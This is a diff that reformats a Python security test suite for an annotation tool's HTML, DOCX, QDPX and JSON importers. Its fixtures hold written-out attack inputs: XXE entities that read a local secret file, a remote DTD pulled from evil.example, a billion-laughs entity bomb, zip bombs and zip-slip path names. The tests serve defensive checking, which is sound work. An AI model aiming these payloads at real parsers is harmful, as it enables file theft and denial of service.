@@ -79,14 +79,24 @@ fishing ban and the dolphins near Kampi. &xxe;</p>
 """
 
 
-def test_html_runs_nothing_fetches_nothing_and_resolves_no_entity(tmp_path: Path,
-                                                                  secret: Path) -> None:
+def test_html_runs_nothing_fetches_nothing_and_resolves_no_entity(
+    tmp_path: Path, secret: Path
+) -> None:
     page = tmp_path / "hostile.html"
     page.write_text(HOSTILE_PAGE.replace("{secret}", str(secret)), encoding="utf-8")
     document = html.read(page)
     assert "river patrol budget" in document.text and "dry season" in document.text
-    for leaked in (SECRET, "SCRIPT-RAN", "ONLOAD-RAN", "IFRAME-CONTENT", "SVG", "evil.example",
-                   "document.write", "tracker", "OBJECT-FALLBACK"):
+    for leaked in (
+        SECRET,
+        "SCRIPT-RAN",
+        "ONLOAD-RAN",
+        "IFRAME-CONTENT",
+        "SVG",
+        "evil.example",
+        "document.write",
+        "tracker",
+        "OBJECT-FALLBACK",
+    ):
         assert leaked not in document.text, leaked
         assert leaked not in json.dumps(document.metadata), leaked
 
@@ -103,8 +113,11 @@ def docx_with(tmp_path: Path, name: str, doctype: str, body_text: str) -> Path:
     with zipfile.ZipFile(base) as source:
         parts = {member.filename: source.read(member) for member in source.infolist()}
     xml = parts["word/document.xml"].decode("utf-8").replace("PLACEHOLDER", body_text)
-    xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + doctype
-           + xml[xml.index("<w:document"):])
+    xml = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        + doctype
+        + xml[xml.index("<w:document") :]
+    )
     target = tmp_path / name
     with zipfile.ZipFile(target, "w") as out:
         for member, data in parts.items():
@@ -113,16 +126,25 @@ def docx_with(tmp_path: Path, name: str, doctype: str, body_text: str) -> Path:
 
 
 LAUGHS = '<!ENTITY lol0 "lol">' + "".join(
-    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
+    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
+)
 
 
 def test_docx_external_entities_are_not_resolved(tmp_path: Path, secret: Path) -> None:
-    path = docx_with(tmp_path, "xxe.docx",
-                     f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://{secret}">]>', "&xxe;")
+    path = docx_with(
+        tmp_path,
+        "xxe.docx",
+        f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://{secret}">]>',
+        "&xxe;",
+    )
     document = detect.read_file(path).documents[0]
     assert SECRET not in document.text
-    remote = docx_with(tmp_path, "remote-dtd.docx", '<!DOCTYPE w:document [<!ENTITY % ext '
-                       'SYSTEM "https://evil.example/evil.dtd"> %ext;]>', "x")
+    remote = docx_with(
+        tmp_path,
+        "remote-dtd.docx",
+        '<!DOCTYPE w:document [<!ENTITY % ext SYSTEM "https://evil.example/evil.dtd"> %ext;]>',
+        "x",
+    )
     assert detect.read_file(remote).documents[0].text == "Hello x world"  # and nothing fetched
 
 
@@ -143,8 +165,13 @@ QDE = """<?xml version="1.0" encoding="utf-8"?>{doctype}
 </Project>"""
 
 
-def qdpx(tmp_path: Path, name: str, doctype: str = "", entity: str = "",
-         members: dict[str, str] | None = None) -> Path:
+def qdpx(
+    tmp_path: Path,
+    name: str,
+    doctype: str = "",
+    entity: str = "",
+    members: dict[str, str] | None = None,
+) -> Path:
     path = tmp_path / name
     with zipfile.ZipFile(path, "w") as archive:
         archive.writestr("project.qde", QDE.format(doctype=doctype, entity=entity))
@@ -160,12 +187,18 @@ def test_qdpx_plain_import_works(project: Project, tmp_path: Path) -> None:
     assert [a.text for a in project.annotations()] == ["Hello"]
 
 
-def test_qdpx_entities_are_neither_resolved_nor_expanded(project: Project, tmp_path: Path,
-                                                         secret: Path) -> None:
-    xxe = qdpx(tmp_path, "xxe.qdpx", f'<!DOCTYPE Project [<!ENTITY xxe SYSTEM "file://{secret}">]>',
-               "&xxe;")
-    message = refused(project, xxe, "project.qde is not valid XML (Attribute references external "
-                      "entity 'xxe'")
+def test_qdpx_entities_are_neither_resolved_nor_expanded(
+    project: Project, tmp_path: Path, secret: Path
+) -> None:
+    xxe = qdpx(
+        tmp_path,
+        "xxe.qdpx",
+        f'<!DOCTYPE Project [<!ENTITY xxe SYSTEM "file://{secret}">]>',
+        "&xxe;",
+    )
+    message = refused(
+        project, xxe, "project.qde is not valid XML (Attribute references external entity 'xxe'"
+    )
     assert SECRET not in message
     started = time.monotonic()
     laughs = qdpx(tmp_path, "laughs.qdpx", f"<!DOCTYPE Project [{LAUGHS}]>", "&lol9;")
@@ -185,18 +218,26 @@ def zip_bomb(path: Path, first: str, declared: int) -> Path:
 
 def test_zip_bombs_are_refused_by_size(project: Project, tmp_path: Path) -> None:
     started = time.monotonic()
-    refused(project, zip_bomb(tmp_path / "bomb.docx", "word/document.xml", 210 * 2**20),
-            "expands to more than 200 MB")
-    refused(project, zip_bomb(tmp_path / "bomb.qdpx", "project.qde", 210 * 2**20),
-            "unpacks to more than 200 MB")
+    refused(
+        project,
+        zip_bomb(tmp_path / "bomb.docx", "word/document.xml", 210 * 2**20),
+        "expands to more than 200 MB",
+    )
+    refused(
+        project,
+        zip_bomb(tmp_path / "bomb.qdpx", "project.qde", 210 * 2**20),
+        "unpacks to more than 200 MB",
+    )
     assert os.path.getsize(tmp_path / "bomb.qdpx") < 2 * 2**20
     assert time.monotonic() - started < 10
 
 
-@pytest.mark.parametrize("member", ["../../evil.txt", "/etc/evil.txt", "..\\..\\evil.txt",
-                                    "C:/Windows/evil.txt"])
-def test_zip_slip_members_are_refused_by_name(project: Project, tmp_path: Path,
-                                              member: str) -> None:
+@pytest.mark.parametrize(
+    "member", ["../../evil.txt", "/etc/evil.txt", "..\\..\\evil.txt", "C:/Windows/evil.txt"]
+)
+def test_zip_slip_members_are_refused_by_name(
+    project: Project, tmp_path: Path, member: str
+) -> None:
     refused(project, qdpx(tmp_path, "slip.qdpx", members={member: "x"}), "unsafe member name")
     word = docx_with(tmp_path, "slip-base.docx", "", "text")
     slip = tmp_path / "slip.docx"
@@ -212,8 +253,9 @@ def test_zip_slip_members_are_refused_by_name(project: Project, tmp_path: Path,
 
 
 @pytest.mark.parametrize("name", ["huge.json", "huge.txt", "huge.docx"])
-def test_files_over_200_mb_are_refused_before_reading(project: Project, tmp_path: Path,
-                                                      name: str) -> None:
+def test_files_over_200_mb_are_refused_before_reading(
+    project: Project, tmp_path: Path, name: str
+) -> None:
     path = tmp_path / name
     with path.open("wb") as sparse:  # a sparse file: instant, and takes no disk space
         sparse.truncate(detect.MAX_FILE_BYTES + 1)
@@ -229,29 +271,45 @@ def span_json(span: dict[str, object], text: str = "ab cd") -> str:
 # case -> (file content, what the message says)
 BAD_JSON: dict[str, tuple[str | bytes, str]] = {
     "nested": ("[" * 100_000 + "]" * 100_000, "the JSON is nested too deeply"),
-    "huge number": ('{"documents": [{"text": "a", "annotations": [{"label": "C", "start": '
-                    + "9" * 5000 + ', "end": 1}]}]}',
-                    "the JSON holds a number too long to read (over 4300 digits)"),
+    "huge number": (
+        '{"documents": [{"text": "a", "annotations": [{"label": "C", "start": '
+        + "9" * 5000
+        + ', "end": 1}]}]}',
+        "the JSON holds a number too long to read (over 4300 digits)",
+    ),
     "invalid UTF-8": (b'{"documents": [{"text": "caf\xe9"}]}', "is not UTF-8 text (byte 28)"),
-    "NUL in text": (json.dumps({"documents": [{"text": "ab\0cd"}]}),
-                    "document 1 ('ab\\x00cd'): its text holds a NUL character (at 2)"),
-    "lone surrogate": ('{"documents": [{"text": "ab\\ud83d cd"}]}',
-                       "its text holds an unpaired surrogate (U+D83D at 2), which is not valid "
-                       "Unicode"),
-    "surrogate in a note": (span_json({"label": "Claim", "start": 0, "end": 2,
-                                       "note": "x\udc00"}),
-                            "annotation 1: its note holds an unpaired surrogate"),
-    "control in a label": (span_json({"label": "Cl\u0007aim", "start": 0, "end": 2}),
-                           "annotation 1: label name holds a control character (U+0007)"),
-    "control in a defined label": (json.dumps({"labels": [{"name": "A\u001bB"}],
-                                               "documents": [{"text": "ab"}]}),
-                                   "label 'A\\x1bB': its name holds a control character"),
-    "span beyond the text": (span_json({"label": "Claim", "start": 3, "end": 99}),
-                             "the span ends beyond the text (length 5)"),
-    "negative span": (span_json({"label": "Claim", "start": -1, "end": 2}),
-                      "start must be at least 0 and before end"),
-    "mismatched text": (span_json({"label": "Claim", "start": 0, "end": 2, "text": "zz"}),
-                        "does not match the document's text"),
+    "NUL in text": (
+        json.dumps({"documents": [{"text": "ab\0cd"}]}),
+        "document 1 ('ab\\x00cd'): its text holds a NUL character (at 2)",
+    ),
+    "lone surrogate": (
+        '{"documents": [{"text": "ab\\ud83d cd"}]}',
+        "its text holds an unpaired surrogate (U+D83D at 2), which is not valid Unicode",
+    ),
+    "surrogate in a note": (
+        span_json({"label": "Claim", "start": 0, "end": 2, "note": "x\udc00"}),
+        "annotation 1: its note holds an unpaired surrogate",
+    ),
+    "control in a label": (
+        span_json({"label": "Cl\u0007aim", "start": 0, "end": 2}),
+        "annotation 1: label name holds a control character (U+0007)",
+    ),
+    "control in a defined label": (
+        json.dumps({"labels": [{"name": "A\u001bB"}], "documents": [{"text": "ab"}]}),
+        "label 'A\\x1bB': its name holds a control character",
+    ),
+    "span beyond the text": (
+        span_json({"label": "Claim", "start": 3, "end": 99}),
+        "the span ends beyond the text (length 5)",
+    ),
+    "negative span": (
+        span_json({"label": "Claim", "start": -1, "end": 2}),
+        "start must be at least 0 and before end",
+    ),
+    "mismatched text": (
+        span_json({"label": "Claim", "start": 0, "end": 2, "text": "zz"}),
+        "does not match the document's text",
+    ),
 }
 
 
@@ -267,8 +325,10 @@ def bad_json(path: Path, case: str) -> Path:
 @pytest.mark.parametrize("case", sorted(BAD_JSON))
 def test_bad_json_is_refused_whole(project: Project, tmp_path: Path, case: str) -> None:
     fragment = BAD_JSON[case][1]
-    good_first = {"text": "A good document that comes first.",
-                  "annotations": [{"label": "Claim", "start": 0, "end": 6}]}
+    good_first = {
+        "text": "A good document that comes first.",
+        "annotations": [{"label": "Claim", "start": 0, "end": 6}],
+    }
     path = bad_json(tmp_path / "bad.json", case)
     if case not in ("nested", "huge number", "invalid UTF-8"):  # a good document, then the bad
         data = json.loads(path.read_text(encoding="utf-8"))
@@ -283,15 +343,29 @@ def test_bad_json_is_refused_whole(project: Project, tmp_path: Path, case: str) 
 def test_control_characters_in_free_text_are_removed(project: Project, tmp_path: Path) -> None:
     """Notes, titles, annotator names, descriptions, metadata and text attributes: C0 controls
     other than tab and newline go, CR LF becomes LF. The document text stays verbatim."""
-    path = write_json(tmp_path / "controls.json", {
-        "labels": [{"name": "Claim", "description": "Desc\u0007ription"}],
-        "documents": [{
-            "title": "Ti\u0000tle\u001b[31m", "text": "Body\u000bwith\ttab\u0007 kept",
-            "metadata": {"k\u0001": ["v\u0002", 1]},
-            "annotations": [{"label": "Claim", "start": 0, "end": 4,
-                             "note": "line one\r\nline\u0008 two\ttab",
-                             "annotator": "an\u007fa", "attributes": {"speaker": "S\u0003"}}]}],
-    })
+    path = write_json(
+        tmp_path / "controls.json",
+        {
+            "labels": [{"name": "Claim", "description": "Desc\u0007ription"}],
+            "documents": [
+                {
+                    "title": "Ti\u0000tle\u001b[31m",
+                    "text": "Body\u000bwith\ttab\u0007 kept",
+                    "metadata": {"k\u0001": ["v\u0002", 1]},
+                    "annotations": [
+                        {
+                            "label": "Claim",
+                            "start": 0,
+                            "end": 4,
+                            "note": "line one\r\nline\u0008 two\ttab",
+                            "annotator": "an\u007fa",
+                            "attributes": {"speaker": "S\u0003"},
+                        }
+                    ],
+                }
+            ],
+        },
+    )
     assert import_file(project, path).outcome is Outcome.IMPORTED
     (document,) = [project.document(d.id) for d in project.documents()]
     assert document.title == "Title[31m"
@@ -299,7 +373,10 @@ def test_control_characters_in_free_text_are_removed(project: Project, tmp_path:
     assert document.metadata == {"k": ["v", 1]}
     (annotation,) = project.annotations()
     assert (annotation.note, annotation.annotator, annotation.attributes) == (
-        "line one\nline two\ttab", "ana", {"speaker": "S"})
+        "line one\nline two\ttab",
+        "ana",
+        {"speaker": "S"},
+    )
     assert project.labels()[0].description == "Description"
 
 
@@ -309,8 +386,9 @@ def test_nul_bytes_in_a_text_file(project: Project, tmp_path: Path) -> None:
     refused(project, path, "binary file")
 
 
-def test_the_cli_names_the_file_for_every_bad_input(tmp_path: Path,
-                                                    capsys: pytest.CaptureFixture[str]) -> None:
+def test_the_cli_names_the_file_for_every_bad_input(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     project = tmp_path / "p.annot"
     files = []
     for n, case in enumerate(sorted(BAD_JSON)):
